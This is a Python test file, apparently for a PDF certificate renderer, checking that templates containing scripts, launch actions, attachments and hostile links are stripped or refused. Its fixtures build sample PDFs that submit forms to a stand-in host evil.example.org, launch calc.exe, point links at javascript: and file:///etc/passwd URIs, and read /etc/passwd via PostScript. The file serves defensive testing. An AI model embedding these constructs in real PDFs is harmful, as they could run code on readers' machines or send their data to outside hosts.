"""Templates with scripts, actions, attachments and other files: nothing of it gets through."""

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any, Final

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Operator, Pdf, String

from testamur.adapters.pdf import PreparedPdf
from testamur.application.errors import RenderingError
from tests.support.hostile import active_content_of, written
from tests.support.pdf import a_document, changed, picture_of, prepared


def over(template: bytes, conformance: str) -> PreparedPdf:
    elements = {"date": False}
    return prepared({"made": template}, template="made", elements=elements, conformance=conformance)


def drawn_or_refused(template: bytes, conformance: str) -> bytes | None:
    """The document over a template, or None if the template is refused."""
    try:
        prepared_over = over(template, conformance)
    except RenderingError as error:
        if error.reason != "bad-template" or not re.search(
            r"it (holds|cannot become)", error.detail
        ):
            raise
        return None
    return prepared_over.render(a_document()).content


SCRIPT: Final = {"S": Name.JavaScript, "JS": String("app.alert('x')")}


def action(pdf: Pdf, **entries: Any) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, **entries))


def annotation(pdf: Pdf, subtype: Name, **entries: Any) -> pikepdf.Object:
    added = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=subtype, Rect=Array([300, 200, 390, 290]), F=2, **entries
        )
    )
    pdf.pages[0].obj.Annots = Array([added])
    return added


def linked(**entries: Any) -> Callable[[Pdf], None]:
    def add(pdf: Pdf) -> None:
        annotation(pdf, Name.Link, A=action(pdf, **entries))

    return add


def a_file(pdf: Pdf) -> pikepdf.Object:
    content = pdf.make_stream(b"a secret", Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("virus.exe"), EF=Dictionary(F=content))
    )


def at_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = action(pdf, **SCRIPT)


def at_closing(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=action(pdf, **SCRIPT), DP=action(pdf, **SCRIPT))


def by_name(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), action(pdf, **SCRIPT)]))
    )


def on_the_page(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action(pdf, **SCRIPT))


def in_a_bookmark(pdf: Pdf) -> None:
    entry = pdf.make_indirect(Dictionary(Title=String("x"), A=action(pdf, **SCRIPT)))
    pdf.Root.Outlines = Dictionary(First=entry, Last=entry, Count=1)


def in_a_field(pdf: Pdf) -> None:
    acts = Dictionary({f"/{key}": action(pdf, **SCRIPT) for key in "KFVC"})
    field = annotation(pdf, Name.Widget, FT=Name.Tx, T=String("x"), AA=acts)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), NeedAppearances=True)


def in_a_button(pdf: Pdf) -> None:
    send = action(pdf, S=Name.SubmitForm, F=String("https://evil.example.org/"))
    field = annotation(pdf, Name.Widget, FT=Name.Btn, T=String("x"), Ff=65536, A=send)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def as_xfa(pdf: Pdf) -> None:
    form = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)
    pdf.Root.NeedsRendering = True


def as_an_attachment(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), a_file(pdf)])))
    pdf.Root.AF = Array([a_file(pdf)])


def as_a_portfolio(pdf: Pdf) -> None:
    as_an_attachment(pdf)
    pdf.Root.Collection = Dictionary(View=Name.T)


def as_an_attached_note(pdf: Pdf) -> None:
    annotation(pdf, Name.FileAttachment, FS=a_file(pdf))


def as_a_film(pdf: Pdf) -> None:
    annotation(pdf, Name.Movie, Movie=Dictionary(F=String("film.avi")), A=True)


def as_a_sound(pdf: Pdf) -> None:
    sound = pdf.make_stream(b"\0" * 10, Type=Name.Sound, R=8000)
    annotation(pdf, Name.Sound, Sound=sound)


def as_rich_media(pdf: Pdf) -> None:
    assets = Dictionary(Names=Array([String("x.swf"), a_file(pdf)]))
    annotation(pdf, Name.RichMedia, RichMediaContent=Dictionary(Assets=assets))


def as_a_screen(pdf: Pdf) -> None:
    annotation(pdf, Name.Screen, A=action(pdf, S=Name.Rendition, OP=0, JS=String("x()")))


def as_a_model(pdf: Pdf) -> None:
    annotation(pdf, Name("/3D"), **{"3DD": pdf.make_stream(b"U3D", Type=Name("/3D"))})


def as_a_signature(pdf: Pdf) -> None:
    value = pdf.make_indirect(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite")))
    field = annotation(pdf, Name.Widget, FT=Name.Sig, T=String("x"), V=value)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    pdf.Root.Perms = Dictionary(DocMDP=value)


def in_unused_objects(pdf: Pdf) -> None:
    pdf.Root.Unheard = Dictionary(Of=action(pdf, **SCRIPT))
    pdf.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=a_file(pdf)))
    pdf.trailer.Extra = action(pdf, **SCRIPT)


def in_the_usage_of_a_layer(pdf: Pdf) -> None:
    layer = pdf.make_indirect(
        Dictionary(Type=Name.OCG, Name=String("x"), Usage=Dictionary(A=action(pdf, **SCRIPT)))
    )
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(Order=Array([layer])))


def in_an_output_intent(pdf: Pdf) -> None:
    intent = Dictionary(
        Type=Name.OutputIntent,
        S=Name("/GTS_PDFX"),
        OutputConditionIdentifier=String("x"),
        DestOutputProfileRef=Dictionary(URLs=Array([a_file(pdf)])),
    )
    pdf.Root.OutputIntents = Array([intent])


def form(pdf: Pdf, **entries: Any) -> pikepdf.Object:
    added = pdf.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), **entries
    )
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=added))
    return added


def in_a_form(pdf: Pdf) -> None:
    form(pdf, AA=Dictionary(O=action(pdf, **SCRIPT)))


def beside_a_form(pdf: Pdf) -> None:
    form(pdf, AF=Array([a_file(pdf)]))


def in_another_file(pdf: Pdf) -> None:
    form(pdf, F=String("/etc/passwd"))


def of_another_file(pdf: Pdf) -> None:
    form(pdf, Ref=Dictionary(F=String("/etc/passwd"), Page=0))


def as_postscript(pdf: Pdf) -> None:
    added = form(pdf, PS=pdf.make_stream(b"(/etc/passwd) (r) file"))
    added.Subtype2 = Name.PS


def in_content(pdf: Pdf) -> None:
    properties = Dictionary(A=action(pdf, **SCRIPT))
    pdf.pages[0].obj.Resources = Dictionary(Properties=Dictionary(P0=properties))
    mark = [([Name.Span, Name.P0], Operator("BDC")), ([], Operator("EMC"))]
    pdf.pages[0].contents_add(pikepdf.unparse_content_stream(mark))


ACTIVE: Final = {
    "script at opening": at_opening,
    "scripts at closing": at_closing,
    "script by name": by_name,
    "script on the page": on_the_page,
    "script in a bookmark": in_a_bookmark,
    "scripts in a field": in_a_field,
    "button that sends": in_a_button,
    "XFA": as_xfa,
    "attachment": as_an_attachment,
    "portfolio": as_a_portfolio,
    "attached note": as_an_attached_note,
    "film": as_a_film,
    "sound": as_a_sound,
    "rich media": as_rich_media,
    "screen": as_a_screen,
    "model": as_a_model,
    "signature": as_a_signature,
    "unused objects": in_unused_objects,
    "usage of a layer": in_the_usage_of_a_layer,
    "output intent": in_an_output_intent,
    "script in a form": in_a_form,
    "file beside a form": beside_a_form,
    "form in another file": in_another_file,
    "form of another file": of_another_file,
    "PostScript": as_postscript,
    "script in marked content": in_content,
    "link that runs a script": linked(**SCRIPT),
    "link that starts a program": linked(S=Name.Launch, F=String("calc.exe")),
    "link to another file": linked(S=Name.GoToR, F=String("\\\\evil.example.org\\x"), D=Array([0])),
    "link to an attached file": linked(S=Name.GoToE, D=Array([0])),
    "link that reads data": linked(S=Name.ImportData, F=String("x.fdf")),
    "link that hides": linked(S=Name.Hide, T=String("x")),
    "link by the reader's menu": linked(S=Name.Named, N=Name.Print),
    "link that switches layers": linked(S=Name.SetOCGState, State=Array([Name.ON])),
    "link to a script": linked(S=Name.URI, URI=String("javascript:alert(1)")),
    "link to a file": linked(S=Name.URI, URI=String("file:///etc/passwd")),
    "link to a program": linked(S=Name.URI, URI=String("ms-word:ofe|u|https://evil.example.org")),
    "link to data": linked(S=Name.URI, URI=String("data:text/html,x")),
    "link with a space before": linked(S=Name.URI, URI=String(" javascript:alert(1)")),
}


@pytest.mark.parametrize("conformance", ["none", "pdf/a"])
@pytest.mark.parametrize("add", ACTIVE.values(), ids=ACTIVE)
def test_nothing_that_acts_comes_into_a_document(
    add: Callable[[Pdf], None], conformance: str
) -> None:
    template = changed(written(), add)
    assert active_content_of(template), "the template itself is not hostile"
    made = drawn_or_refused(template, conformance)
    of_the_plain_template = over(written(), conformance).render(a_document()).content

    if made is not None:
        assert active_content_of(made) == set()
        assert b"secret" not in made
        assert picture_of(made).tobytes() == picture_of(of_the_plain_template).tobytes()


def test_a_link_with_an_action_after_it_keeps_only_its_address() -> None:
    def add(pdf: Pdf) -> None:
        uri = action(
            pdf,
            S=Name.URI,
            URI=String("https://university.example.org/"),
            Next=action(pdf, **SCRIPT),
        )
        annotation(pdf, Name.Link, A=uri, AA=Dictionary(E=action(pdf, **SCRIPT)))

    made = over(changed(written(), add), "none").render(a_document()).content

    assert active_content_of(made) == set()
    with pikepdf.open(BytesIO(made)) as pdf:
        (link,) = pdf.pages[0].obj.Annots.as_list()
        assert set(link.A.keys()) <= {"/Type", "/S", "/URI"}
        assert str(link.A.URI) == "https://university.example.org/"
